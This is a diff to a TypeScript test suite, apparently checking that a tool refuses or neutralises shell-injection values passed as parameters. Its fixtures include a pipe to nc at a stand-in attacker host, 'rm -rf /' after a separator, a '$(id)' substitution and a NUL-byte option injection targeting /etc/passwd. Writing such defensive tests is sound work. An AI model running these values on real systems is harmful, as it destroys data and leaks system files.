@@ -64,6 +64,7 @@ const SHELL_VALUES: [string, string][] = [
   ['a pipe to nc', 'api | nc attacker.example 4444'],
   ['&& and ||', 'api && touch PWNED || touch PWNED'],
   ['redirection', 'api > PWNED'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is the literal text a shell would expand.
   ['variable expansion', '$HOME ${PATH} $0'],
   ['globs and tilde', '* ~ /etc/*'],
   ['quotes', `'"; touch PWNED; echo "'`],
@@ -103,7 +104,10 @@ describe('option injection', () => {
 
 describe('typed parameters refuse what does not fit', () => {
   const refused: [string, Record<string, unknown>][] = [
-    ['a separator in a patterned value (the pattern must match the whole value)', { service: 'api; rm -rf /' }],
+    [
+      'a separator in a patterned value (the pattern must match the whole value)',
+      { service: 'api; rm -rf /' },
+    ],
     ['a newline in a patterned value', { service: 'api\nrm' }],
     ['substitution in a patterned value', { service: '$(id)' }],
     ['a NUL byte', { service: 'api\0--output=/etc/passwd' }],
